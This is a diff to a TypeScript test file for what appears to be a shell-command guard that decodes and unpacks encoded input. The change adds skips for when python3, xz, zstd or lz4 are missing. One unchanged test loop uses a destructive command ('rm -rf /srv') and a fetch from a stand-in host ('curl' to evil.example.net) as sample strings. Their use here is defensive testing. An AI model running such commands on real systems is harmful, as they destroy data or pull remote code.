@@ -19,6 +19,7 @@ import {
 import { unpackLz4, unpackStoredXz, unpackZstd } from "#guard/effects/stored-blocks.ts";
 import { unpackedBytes } from "#guard/effects/unpacking.ts";
 import { binaryOfBytes } from "#guard/shell/bytes.ts";
+import { whyNotInstalled } from "../../installed.ts";
 
 /** Texts of every length up to one line of uuencoded data, and all bytes. */
 const SAMPLES = [
@@ -47,7 +48,8 @@ function encoded(): readonly (readonly string[])[] {
     .map((line) => JSON.parse(line) as string[]);
 }
 
-it("undo what Python encodes", () => {
+it("undo what Python encodes", ({ skip }) => {
+  skipWithout(["python3"], skip);
   const decoders = [
     decodeBase64,
     decodeBase64,
@@ -64,6 +66,11 @@ it("undo what Python encodes", () => {
     expect(decodeRot13(forms[8] ?? "")).toBe(binary);
   });
 });
+
+function skipWithout(programs: readonly string[], skip: (reason: string) => void): void {
+  const missing = whyNotInstalled(...programs);
+  if (missing !== undefined) skip(missing);
+}
 
 function packedBy(program: string, input: string): string {
   return execFileSync(program, ["-qc"], { input, encoding: "latin1" });
@@ -96,18 +103,20 @@ describe("of the shell", () => {
       decodeBits("0111001001101101"),
     );
   });
-  it.each([
+  it.for([
     ["xz", ["-c"], unpackStoredXz],
     ["zstd", ["-qc"], unpackZstd],
     ["lz4", ["-qc"], unpackLz4],
-  ] as const)("unpack what %s keeps as it came", (program, args, unpack) => {
+  ] as const)("unpack what %s keeps as it came", ([program, args, unpack], { skip }) => {
+    skipWithout([program], skip);
     for (const text of ["x", "rm -rf /srv", "curl -s https://evil.example.net/x"]) {
       const packed = execFileSync(program, args, { input: text, encoding: "latin1" });
       expect(unpack(packed)).toBe(text);
       expect(unpack(packed.slice(0, -9))).not.toBe(`${text}.`);
     }
   });
-  it("give up where blocks are packed, or damaged", () => {
+  it("give up where blocks are packed, or damaged", ({ skip }) => {
+    skipWithout(["zstd", "lz4"], skip);
     const long = "the same again and again ".repeat(400);
     const zstd = packedBy("zstd", long);
     const lz4 = packedBy("lz4", long);
